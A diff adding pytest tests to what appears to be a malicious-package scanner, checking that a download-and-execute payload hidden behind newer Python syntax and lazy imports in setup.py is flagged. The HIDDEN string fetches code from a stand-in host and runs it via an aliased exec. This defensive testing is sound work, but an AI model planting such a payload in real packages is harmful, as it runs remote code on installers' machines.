@@ -168,6 +168,46 @@ def test_a_spelling(name, role, spelling, make, examine):
     ), seen.say()
 
 
+HIDDEN = "import urllib.request as u\ne = exec\ne(u.urlopen('http://example.invalid/stage').read())\n"
+"""The payload in names that only a tree gives away."""
+NEWER = {
+    "type alias": "type X[T: list[int]] = dict[T, int]\n",
+    "type alias on one line": "x = 1; type X = int\n",
+    "type parameters": "def f[T: (int, C[[], A[dict[str, B[int]]]]), *Ts, **P](x: T) -> T: return x\n",
+    "type parameters on lines": "class A[\n    T: int = int,\n](B):\n    pass\n",
+    "f-string in its own quotes": "x = f'{d['a']}'\n",
+    "f-string in itself": "x = f'{f'{1}'}'\n",
+    "f-string with a line end": "x = f'{a\n+ b}' + f'{1:#x}'\n",
+    "f-string with a comment": "x = f'{a  # it is\n}'\n",
+    "f-string with a backslash": "x = f'{\"\\n\".join(a)}'\n",
+    "template string": 'x = t\'{a}\' + rt"""{b}""" + Tr\'c\'\n',
+    "template string in itself": "x = t'{t'{a}'}'\n",
+    "exceptions": "try:\n    pass\nexcept A, B.C:\n    pass\nexcept A, B, C:\n    pass\n",
+    "exceptions of a group": "try:\n    pass\nexcept* A, B:\n    pass\n",
+    "two exceptions": "try:\n    pass\nexcept A, B:\n    x = t'{a}'\n",
+    "unpacking in a comprehension": "x = [*a for a in b]\ny = {\n  **d for d in e}\nz = (*a for a in b)\n",
+    "lazy import": "lazy import json\nif 1: lazy from a import b\n",
+}
+
+
+@pytest.mark.parametrize("spelling", NEWER)
+@pytest.mark.parametrize("name", ["setup.py", "demo/__init__.py"])
+def test_what_only_newer_interpreters_read(name, spelling, make, examine):
+    seen = examine(make.sdist({name: (NEWER[spelling] + HIDDEN).encode()}))
+    seen.is_seen("download_then_execute", f"demo-1.0/{name}")
+
+
+@pytest.mark.parametrize("line", ["lazy import boot\nboot.main()\n", "lazy from boot import main\nmain()\n"])
+def test_a_lazy_import_of_the_payload(line, make, examine):
+    boot = "def main():\n    " + HIDDEN.replace("\n", "\n    ")
+    seen = examine(make.sdist({"setup.py": line.encode(), "boot.py": boot.encode(), "other.py": b""}))
+    assert ("demo-1.0/boot.py", "install") in {(at.member, at.role.value) for at in seen.row.evidence}, seen.say()
+
+
+def test_a_lazy_import_in_the_payload(make, examine):
+    examine(make.sdist({"setup.py": f"lazy {HIDDEN}".encode()})).is_seen("download_then_execute", "demo-1.0/setup.py")
+
+
 def disguised(text):
     return "".join(chr(ord(letter) + 0xFEE0) if letter.isalpha() else letter for letter in text)
 
